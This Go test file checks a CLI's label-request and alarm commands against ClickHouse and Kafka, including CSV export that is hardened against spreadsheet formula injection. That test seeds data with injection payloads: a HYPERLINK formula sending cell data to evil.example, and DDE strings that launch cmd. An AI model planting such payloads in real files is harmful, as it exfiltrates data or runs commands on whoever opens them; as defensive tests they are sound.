package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/twmb/franz-go/pkg/kfake"

	"github.com/entrowatch/entrowatch/sinks/clickhouse"
	"github.com/entrowatch/entrowatch/streams/kafka"
)

// The labels subcommands take exactly one of a file and a topic, and a topic
// needs brokers; both are checked before anything connects.
func TestLabelsFileOrTopic(t *testing.T) {
	for _, tc := range []struct {
		args  []string
		usage string // expected on stderr with errUsage
		err   string // expected error otherwise
	}{
		{args: []string{"requests"}, usage: "give exactly one of --out FILE or --topic T"},
		{args: []string{"requests", "--out", "x.csv", "--topic", "t"}, usage: "give exactly one of --out FILE or --topic T"},
		{args: []string{"requests", "--topic", "t"}, err: "--topic t needs --brokers"},
		{args: []string{"import"}, usage: "give exactly one of --in FILE or --topic T"},
		{args: []string{"import", "--in", "x.csv", "--topic", "t"}, usage: "give exactly one of --in FILE or --topic T"},
		{args: []string{"import", "--topic", "t"}, err: "--topic t needs --brokers"},
	} {
		var stdout, stderr bytes.Buffer
		err := runLabels(context.Background(), tc.args, &stdout, &stderr)
		require.Error(t, err, tc.args)
		if tc.usage != "" {
			require.True(t, errors.Is(err, errUsage), "%v: %v", tc.args, err)
			require.Contains(t, stderr.String(), tc.usage, tc.args)
		} else {
			require.Contains(t, err.Error(), tc.err, tc.args)
		}
	}
}

// The labels commands reach a Kafka that requires SASL, with the password
// from $ENTROWATCH_KAFKA_PASSWORD: requests out, labels in, a wrong password
// refused.
func TestLabelsOverSASL(t *testing.T) {
	dsn := migratedServer(t)
	ctx := context.Background()
	var stderr string
	var code int

	cluster, err := kfake.NewCluster(kfake.NumBrokers(1), kfake.EnableSASL(), kfake.Superuser("PLAIN", "alice", "wonderland"),
		kfake.SeedTopics(1, "labels"), kfake.GroupMinSessionTimeout(100*time.Millisecond))
	require.NoError(t, err)
	defer cluster.Close()
	brokers := strings.Join(cluster.ListenAddrs(), ",")
	kc := kafka.DefaultConfig()
	kc.Brokers = cluster.ListenAddrs()
	kc.SASL.Mechanism, kc.SASL.Username, kc.SASL.Password = "plain", "alice", "wonderland"
	pcfg := kafka.DefaultProducerConfig()
	pcfg.Topic = "labels"
	p, err := kafka.NewProducer(kc, pcfg, slog.New(slog.DiscardHandler))
	require.NoError(t, err)
	require.NoError(t, p.Produce(ctx, kafka.Message{Value: []byte(`{"trace_id":"s1","correct":true}`)}))
	require.NoError(t, p.Close())

	sasl := []string{"--brokers", brokers, "--kafka-sasl", "plain", "--kafka-sasl-user", "alice"}
	t.Setenv("ENTROWATCH_KAFKA_PASSWORD", "wrong")
	_, stderr, code = runCLI(t, append([]string{"labels", "import", "--clickhouse", dsn, "--topic", "labels", "--idle", "2s"}, sasl...)...)
	require.NotEqual(t, 0, code, "a wrong password must not get through")
	require.NotContains(t, stderr, "wrong", "the password never appears")

	t.Setenv("ENTROWATCH_KAFKA_PASSWORD", "wonderland")
	_, stderr, code = runCLI(t, append([]string{"labels", "import", "--clickhouse", dsn, "--topic", "labels", "--idle", "2s"}, sasl...)...)
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "1 label stored from topic labels")

	// Requests out over SASL: an empty queue publishes nothing, but the
	// topic is created and checked, so a wrong password still fails.
	_, stderr, code = runCLI(t, append([]string{"labels", "requests", "--clickhouse", dsn, "--topic", "requests"}, sasl...)...)
	require.Equal(t, 0, code, stderr)
	t.Setenv("ENTROWATCH_KAFKA_PASSWORD", "wrong")
	_, stderr, code = runCLI(t, append([]string{"labels", "requests", "--clickhouse", dsn, "--topic", "requests"}, sasl...)...)
	require.NotEqual(t, 0, code, stderr)

	// The alarm dispatcher checks its topic at start, not at the first alarm.
	_, stderr, code = runCLI(t, append([]string{"alarms", "--clickhouse", dsn, "--topic", "alarms", "--once"}, sasl...)...)
	require.NotEqual(t, 0, code, stderr)
	require.Contains(t, stderr, "alarms:")
	t.Setenv("ENTROWATCH_KAFKA_PASSWORD", "wonderland")
	_, stderr, code = runCLI(t, append([]string{"alarms", "--clickhouse", dsn, "--topic", "alarms", "--once"}, sasl...)...)
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "alarms: 0 new events published", "a quiet poll says so")
}

// labels requests --out writes the file whole or not at all: no empty file
// when the server cannot be reached or nothing is left to request (and the
// reason is said), a previous batch file kept, and a name whose extension
// names no format it writes refused before anything is recorded.
func TestLabelsRequestsOut(t *testing.T) {
	dir := t.TempDir()
	noFiles := func(t *testing.T) {
		t.Helper()
		ents, err := os.ReadDir(dir)
		require.NoError(t, err)
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		require.Empty(t, names, "nothing may be left in the output directory")
	}

	_, stderr, code := runCLI(t, "labels", "requests", "--clickhouse", "clickhouse://127.0.0.1:1/default", "--out", filepath.Join(dir, "batch.txt"))
	require.Equal(t, 1, code, stderr)
	require.Contains(t, stderr, "writes JSON Lines (.jsonl, .json, .ndjson) or CSV (.csv)")
	noFiles(t)

	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	closed := l.Addr().String()
	l.Close()
	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", "clickhouse://"+closed+"/default", "--out", filepath.Join(dir, "batch.jsonl"))
	require.Equal(t, 1, code, stderr)
	noFiles(t)

	dsn := migratedServer(t)
	ctx := context.Background()
	out := filepath.Join(dir, "batch.csv")

	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", out)
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "nothing to request: default.scored holds no responses yet; no file written")
	noFiles(t)

	cfg := clickhouse.DefaultConfig()
	cfg.DSN = dsn
	conn, err := clickhouse.Open(ctx, cfg)
	require.NoError(t, err)
	defer conn.Close()
	require.NoError(t, conn.Exec(ctx, `INSERT INTO default.scored (trace_id, ts, model, domain, p_correct, status)
SELECT concat('r', toString(number)), toDateTime('2026-03-01 00:00:00', 'UTC') + number, 'm1', 'd', 0.5 + number / 100, 'ok' FROM system.numbers LIMIT 8`))

	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", out, "--batch", "b1")
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "8 responses from 1 domain (batch b1)")
	b, err := os.ReadFile(out)
	require.NoError(t, err)
	require.Equal(t, 9, strings.Count(string(b), "\n"), "CSV header and 8 requests:\n%s", b)
	require.True(t, strings.HasPrefix(string(b), "trace_id,model,domain,"), "%s", b)

	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", out, "--batch", "b2")
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "nothing to request: every one of the 8 responses in the queue lookback")
	require.Contains(t, stderr, "already labelled (0) or requested (8)")
	again, err := os.ReadFile(out)
	require.NoError(t, err)
	require.Equal(t, b, again, "the previous batch file is kept")
	ents, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.Len(t, ents, 1, "no temporary file left")
}

// migratedServer starts a managed clickhouse-server for t (skipping t when
// none is installed), applies the migrations with entrowatch migrate and
// returns its DSN.
func migratedServer(t *testing.T) string {
	t.Helper()
	srv := localServer(t)
	_, stderr, code := runCLI(t, "migrate", "--clickhouse", srv.DSN())
	require.Equal(t, 0, code, stderr)
	return srv.DSN()
}

// TestCommandsNeedMigratedSchema: labels and alarms against a database
// without the entrowatch schema, or behind this build's migrations, say to
// run entrowatch migrate; labels said only "Database nodb doesn't exist".
func TestCommandsNeedMigratedSchema(t *testing.T) {
	dsn := migratedServer(t)
	noDB := strings.TrimSuffix(dsn, "/default") + "/nodb"
	require.NotEqual(t, dsn, noDB, dsn)
	file := filepath.Join(t.TempDir(), "labels.csv")
	require.NoError(t, os.WriteFile(file, []byte("trace_id,correct\nx,1\n"), 0o644))
	for _, args := range [][]string{
		{"labels", "requests", "--clickhouse", noDB, "--out", filepath.Join(t.TempDir(), "r.csv")},
		{"labels", "import", "--clickhouse", noDB, "--in", file},
		{"alarms", "--clickhouse", noDB, "--list"},
		{"alarms", "--clickhouse", noDB, "--once", "--webhook", "http://127.0.0.1:1/"},
	} {
		_, stderr, code := runCLI(t, args...)
		require.Equal(t, 1, code, "%v: %s", args, stderr)
		require.Contains(t, stderr, "database nodb has no entrowatch tables", args)
		require.Contains(t, stderr, "run entrowatch migrate --clickhouse DSN first", args)
	}

	// A database migrated by an older build: the newest migration missing.
	ctx := context.Background()
	conn, err := clickhouse.Open(ctx, clickhouse.Config{DSN: dsn})
	require.NoError(t, err)
	defer conn.Close()
	ms, err := clickhouse.Migrations()
	require.NoError(t, err)
	last := ms[len(ms)-1]
	require.NoError(t, conn.Exec(ctx, fmt.Sprintf("ALTER TABLE default.schema_migrations DELETE WHERE version = %d", last.Version)))
	deadline := time.Now().Add(30 * time.Second) // mutations run in the background
	for {
		var n uint64
		require.NoError(t, conn.QueryRow(ctx, fmt.Sprintf("SELECT count() FROM default.schema_migrations WHERE version = %d", last.Version)).Scan(&n))
		if n == 0 {
			break
		}
		require.True(t, time.Now().Before(deadline), "the delete never ran")
		time.Sleep(50 * time.Millisecond)
	}
	_, stderr, code := runCLI(t, "labels", "import", "--clickhouse", dsn, "--in", file)
	require.Equal(t, 1, code, stderr)
	require.Contains(t, stderr, fmt.Sprintf("is at migration %d and this build needs %d", last.Version-1, last.Version))
	_, stderr, code = runCLI(t, "migrate", "--clickhouse", dsn)
	require.Equal(t, 0, code, stderr)
	_, stderr, code = runCLI(t, "labels", "import", "--clickhouse", dsn, "--in", file)
	require.Equal(t, 0, code, stderr)
}

// TestManagedServerHTTPPort: the managed server logs its tcp_port and its
// http_port on one line; a DSN with the HTTP port only timed out ("is the
// server running and the DSN right?"), and an http:// DSN with it was
// answered with a native DSN that kept the HTTP port.
func TestManagedServerHTTPPort(t *testing.T) {
	srv := localServer(t)
	addr := fmt.Sprintf("127.0.0.1:%d", srv.HTTPPort())

	_, stderr, code := runCLI(t, "alarms", "--list", "--read-timeout", "2s", "--clickhouse", "clickhouse://"+addr+"/default")
	require.Equal(t, 1, code, stderr)
	require.Contains(t, stderr, addr+" answers ClickHouse's HTTP /ping: it is the server's HTTP port")
	require.Contains(t, stderr, "give the server's tcp_port")

	_, stderr, code = runCLI(t, "alarms", "--list", "--clickhouse", "http://"+addr+"/default")
	require.Equal(t, 1, code, stderr)
	require.Contains(t, stderr, "give clickhouse://127.0.0.1:9000/default")
	require.NotContains(t, stderr, "give clickhouse://"+addr)
}

// localServer starts a managed clickhouse-server for the test, or skips the
// test when none is installed.
func localServer(t *testing.T) *clickhouse.Server {
	t.Helper()
	if _, err := clickhouse.FindServerBinary(); err != nil {
		t.Skip("clickhouse-server is not installed (make deps installs it): ", err)
	}
	lc := clickhouse.DefaultLocalConfig()
	lc.Dir = t.TempDir()
	srv, err := clickhouse.StartLocal(context.Background(), lc, slog.New(slog.DiscardHandler))
	require.NoError(t, err)
	t.Cleanup(func() { srv.Stop() })
	return srv
}

// Usage errors of labels requests exit 2, as a missing --out does; before,
// --per-domain 0 and --domains 0 reached the server and exited 1.
func TestLabelsRequestsUsage(t *testing.T) {
	out := filepath.Join(t.TempDir(), "r.csv")
	for _, args := range [][]string{
		{"--per-domain", "0"},
		{"--domains", "0"},
		{"--domains", "-3"},
		{"--expire-after", "0s"},
	} {
		_, stderr, code := runCLI(t, append([]string{"labels", "requests", "--clickhouse", "clickhouse://127.0.0.1:1/default", "--out", out}, args...)...)
		require.Equal(t, 2, code, "%v: %s", args, stderr)
		require.Contains(t, stderr, "must be positive", args)
	}
}

// labels requests --out x.csv wrote the strings of whoever sent the
// responses as they came, and a spreadsheet runs a cell that starts with
// = + - @ as a formula. Such cells get an apostrophe in front now (the JSON
// Lines file is left as it is), and labels import takes it off trace_id, so
// the filled-in file still joins its responses. --batch with a name
// label_requests holds already is refused (before, a second run appended to
// that batch); "1 domain" is singular.
func TestLabelsRequestsSpreadsheetSafe(t *testing.T) {
	dsn := migratedServer(t)
	ctx := context.Background()
	conn := openServer(t, dsn)
	ids := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")-1`, "-5", "@SUM(1+1)", "'quoted", "+x", "plain-1", "plain-2", "plain-3"}
	var quoted []string
	for _, id := range ids {
		quoted = append(quoted, "'"+strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(id)+"'")
	}
	require.NoError(t, conn.Exec(ctx, `INSERT INTO default.scored (trace_id, ts, model, domain, p_correct, status, prompt)
SELECT id, toDateTime('2026-03-01 00:00:00', 'UTC') + rowNumberInAllBlocks(), 'm1', '=cmd|\' /C calc\'!A0', 0.5, 'ok', '@SUM(1+1)*cmd|\' /C calc\'!A0'
FROM (SELECT arrayJoin([`+strings.Join(quoted, ", ")+`]) AS id)`))
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "batch.csv")
	_, stderr, code := runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", csvPath, "--per-domain", "5", "--batch", "r1")
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "5 responses from 1 domain (batch r1)")

	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", filepath.Join(dir, "again.jsonl"), "--per-domain", "5", "--batch", "r1")
	require.Equal(t, 1, code, stderr)
	require.Contains(t, stderr, "--batch r1: default.label_requests holds a batch of that name already (5 requests); give a new name")
	_, err := os.Stat(filepath.Join(dir, "again.jsonl"))
	require.True(t, os.IsNotExist(err), "no file for a refused batch")
	jsonPath := filepath.Join(dir, "batch2.jsonl")
	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", jsonPath, "--per-domain", "5", "--batch", "r2")
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "3 responses from 1 domain (batch r2)")

	f, err := os.Open(csvPath)
	require.NoError(t, err)
	recs, err := csv.NewReader(f).ReadAll()
	f.Close()
	require.NoError(t, err)
	require.Len(t, recs, 6)
	var exported []string
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			require.False(t, cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r"), "a cell a spreadsheet runs: %q", cell)
		}
		exported = append(exported, rec[0])
	}
	require.Equal(t, "'=cmd|' /C calc'!A0", recs[1][2], "domain")
	require.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", recs[1][9], "prompt")
	b, err := os.ReadFile(jsonPath)
	require.NoError(t, err)
	require.Contains(t, string(b), `"domain":"=cmd|' /C calc'!A0"`, "JSON Lines as it is")

	// The labeler fills in correct; labels import joins every row to its response.
	var buf bytes.Buffer
	cw := csv.NewWriter(&buf)
	for i, rec := range recs {
		if i == 0 {
			require.NoError(t, cw.Write(append(rec, "correct")))
		} else {
			require.NoError(t, cw.Write(append(rec, "1")))
		}
	}
	cw.Flush()
	require.NoError(t, os.WriteFile(csvPath, buf.Bytes(), 0o644))
	_, stderr, code = runCLI(t, "labels", "import", "--clickhouse", dsn, "--in", csvPath)
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stderr, "labels import: 5 labels stored\n", "every label matches its response")
	got := latest(t, conn)
	require.Len(t, got, 5)
	for _, cell := range exported {
		id := strings.TrimPrefix(cell, "'") // the one apostrophe SpreadsheetCell put there, if any
		require.Contains(t, ids, id)
		require.Contains(t, got, id, "the label of %q is stored under the response's id", cell)
	}
}
